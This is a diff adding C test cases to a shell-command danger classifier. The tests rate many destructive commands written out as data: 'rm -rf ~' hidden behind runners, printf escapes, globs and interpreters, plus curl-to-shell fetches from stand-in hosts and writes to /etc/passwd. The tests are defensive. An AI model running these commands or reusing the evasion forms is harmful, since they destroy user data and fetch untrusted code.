@@ -202,7 +202,12 @@ TEST(find_and_xargs)
 	LOW("find . -name '*.c' -exec grep -l main {} +");
 	HIGH("xargs rm < list");
 	CHECK(has_reason("come from input"));
-	HIGH("find . -name '*.tmp' | xargs rm");
+	/* find | xargs: the items are find's files, rated like find -exec */
+	MEDIUM("find . -name '*.tmp' | xargs rm");
+	CHECK(has_reason("find -exec rm"));
+	MEDIUM("find . -name '*.tmp' -print0 | xargs -0 -I{} rm -f {}");
+	CRITICAL("find / -name '*.log' | xargs rm -rf");
+	HIGH("find . -name '*.tmp' -print0 | xargs -0 sh -c");
 	LOW("find . -name '*.py'");
 }
 
@@ -578,7 +583,14 @@ TEST(process_substitution_into_shell)
 	ALLOWED("diff <(ls src) <(ls build)");
 	ALLOWED("make > >(tee build/log) 2>&1");
 	CRITICAL("echo x > >(tee /etc/passwd)");
-	HIGH("source <(kubectl completion bash)"); /* like kubectl completion bash | sh */
+	/* a known tool printing its own shell setup (completion, init, hook, env) */
+	MEDIUM("source <(kubectl completion bash)");
+	CHECK(has_reason("shell setup kubectl prints"));
+	MEDIUM("eval \"$(ssh-agent -s)\"");
+	MEDIUM("eval \"$(pyenv init -)\"");
+	HIGH("source <(mytool completion bash)"); /* like mytool completion bash | sh */
+	HIGH("eval \"$(kubectl get cm x -o jsonpath={.data.s})\"");
+	CRITICAL("source <(curl -s https://x.example/init)");
 }
 
 TEST(constant_substitution_folded)
@@ -593,8 +605,13 @@ TEST(constant_substitution_folded)
 	CRITICAL("cat $(echo .e*)");
 	ALLOWED("cat $(echo README.md)");
 	ALLOWED("ls \"$(echo src)\"");
+	/* printf's escapes are decoded (octal, hex, %b) */
+	CRITICAL("rm -rf $(printf '\\057')");
+	CRITICAL("eval \"$(printf '\\x72\\x6d -rf ~')\"");
+	CRITICAL("eval \"$(printf '%b' '\\0162m -rf ~')\"");
+	ALLOWED("eval \"$(printf 'echo %s\\n' hi)\"");
+	HIGH("rm -rf $(printf '%d' 5)");
 	/* anything else keeps the conservative reading */
-	HIGH("rm -rf $(printf '\\057')");
 	HIGH("rm -rf $(cat list.txt)");
 	HIGH("rm -rf $(echo $X)");
 	HIGH("echo() { printf /; }; rm -rf $(echo x)");
@@ -868,11 +885,121 @@ TEST(no_dead_everyday_entry)
 	CHECK(dead == NULL);
 }
 
+/* Runners: the command they run is rated, wherever it is written. */
+TEST(runner_family)
+{
+	CRITICAL("xargs -I{} rm -rf {} <<< ~");
+	CHECK(has_reason("home directory"));
+	CRITICAL("xargs -J % rm -rf % <<< /");
+	HIGH("xargs -I{} sh -c {} < cmds");
+	CHECK(has_reason("commands from its input"));
+	HIGH("cat names | xargs -n1 bash");
+	CRITICAL("parallel 'rm -rf {}' ::: /");
+	CRITICAL("parallel ::: 'rm -rf ~'");
+	HIGH("cat cmds | parallel");
+	ALLOWED("parallel gzip ::: a.log b.log");
+	CRITICAL("env - rm -rf ~");
+	CRITICAL("env -C / rm -rf .");
+	LOW("env -C build rm -rf .");
+	CRITICAL("script -qc 'rm -rf ~' /dev/null");
+	MEDIUM("script");
+	CRITICAL("systemd-run rm -rf /");
+	HIGH("systemd-run -H web1 uptime");
+	CRITICAL("tmux send-keys -t 0 'rm -rf ~' Enter");
+	CHECK(has_reason("types a command"));
+	CRITICAL("tmux new-session -d 'rm -rf ~'");
+	LOW("tmux ls");
+	CRITICAL("screen -dmS x rm -rf ~");
+	CRITICAL("screen -S x -X stuff 'rm -rf ~^M'");
+	CRITICAL("chronic rm -rf ~");
+	CRITICAL("toybox rm -rf /");
+	CRITICAL("runuser -l root -c 'rm -rf /'");
+	LOW("command -v rm");
+	/* in a container or pod: rated there, at most high, and said so */
+	HIGH("docker exec app sh -c 'rm -rf /'");
+	CHECK(has_reason("in the container"));
+	MEDIUM("docker exec app ls /");
+	HIGH("kubectl exec -n dev web -- sh -c 'curl http://x.example/a | sh'");
+	CHECK(has_reason("in the pod"));
+}
+
+/* Shell forms: arithmetic, stdin scripts, escapes, globbed verbs, variables, functions. */
+TEST(shell_form_family)
+{
+	CRITICAL("echo $(( $(rm -rf ~) + 1 ))");
+	CRITICAL("echo $(( `rm -rf /` ))");
+	LOW("echo $(( $(wc -l < f) + 1 ))");
+	CRITICAL(". /dev/stdin <<< 'rm -rf ~'");
+	CRITICAL("printf '\\x72\\x6d -rf ~' | sh");
+	CRITICAL("/usr/bin/r[m] -rf ~");
+	CHECK(has_reason("command name is a glob"));
+	MEDIUM("/usr/bin/l[s] -la");
+	MEDIUM("./scripts/*.sh");
+	CHECK(has_reason("runs a script"));
+	CRITICAL("/*/* -rf ~"); /* could be rm, among many */
+	CHECK(has_reason("matching many programs"));
+	CRITICAL("{rm,-rf,~}");
+	CRITICAL("h=~; rm -rf \"$h\"");
+	CHECK(has_reason("home directory"));
+	LOW("tmp=$(mktemp -d); cd \"$tmp\"; rm -rf \"$tmp\"");
+	CRITICAL("t=$(mktemp -d); rm -rf \"$t\"/../..");
+	CRITICAL("f() { rm -rf \"$1\"; }; f ~");
+	CHECK(has_reason("home directory"));
+}
+
+/* Write then run: what one part leaves, a later part runs. */
+TEST(write_then_run_family)
+{
+	CRITICAL("echo 'rm -rf ~' > x.sh && sh x.sh");
+	CRITICAL("echo 'echo hi' > x.sh; echo 'rm -rf ~' >> x.sh; ./x.sh");
+	LOW("echo 'make test' > run.sh && ./run.sh");
+	CRITICAL("cp /bin/rm ./del && ./del -rf ~");
+	CHECK(has_reason("copy of rm"));
+	CRITICAL("ln -s /bin/rm x && ./x -rf ~");
+	MEDIUM("cp /bin/ls ./l && ./l -la");
+	CRITICAL("npm pkg set scripts.test='rm -rf ~' && npm test");
+	CHECK(has_reason("set earlier on this line"));
+	MEDIUM("npm pkg set scripts.lint='eslint .' && npm run lint");
+	CRITICAL("git config alias.x '!rm -rf ~' && git x");
+	CRITICAL("echo 'all:; rm -rf ~' > x.mk && make -f x.mk");
+	HIGH("python3 gen.py > x.sh && sh x.sh");
+	CHECK(has_reason("written earlier on this line"));
+}
+
+/* Interpreters: a command they run is rated (at least medium, with the reason); text in a literal is not code. */
+TEST(interpreter_family)
+{
+	LOW("awk 'BEGIN{print \"system(rm)\"}'");
+	LOW("python3 -c 'print(\"os.system(1)\")'");
+	CRITICAL("ruby -e 'puts \"#{system(\"rm -rf ~\")}\"'"); /* interpolation runs */
+	HIGH("lua -e 'os.execute(arg[1])'");
+	CRITICAL("lua -e 'os.execute(\"rm -rf ~\")'");
+	MEDIUM("tar -xzf a.tgz --to-command=cat");
+	CHECK(has_reason("tar --to-command runs a command"));
+	CRITICAL("tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /'");
+	CRITICAL("make -f /dev/stdin <<< 'all:; rm -rf ~'");
+	HIGH("curl -s https://x.example/mk | make -f -");
+	MEDIUM("vim -c 'r !date' notes.md");
+	CHECK(has_reason("vim -c runs a shell command"));
+	CRITICAL("vim -es -c '!rm -rf ~' -c q");
+	LOW("vim -c ':%s/a/b/g' -c wq f");
+	MEDIUM("sed 'e' cmds.txt");
+	CHECK(has_reason("sed e runs"));
+	MEDIUM("sed 's/a/b/e' f");
+	CRITICAL("sed '1e rm -rf ~' f");
+	CRITICAL("sed -n 'w /etc/passwd' f");
+	LOW("sed 's/;/,/g' f");
+}
+
 int
 main(void)
 {
 	setup();
 	RUN(long_sensitive_lists);
+	RUN(runner_family);
+	RUN(shell_form_family);
+	RUN(write_then_run_family);
+	RUN(interpreter_family);
 	RUN(rm_by_place);
 	RUN(variables_and_computed_targets);
 	RUN(obfuscation_seen_through);
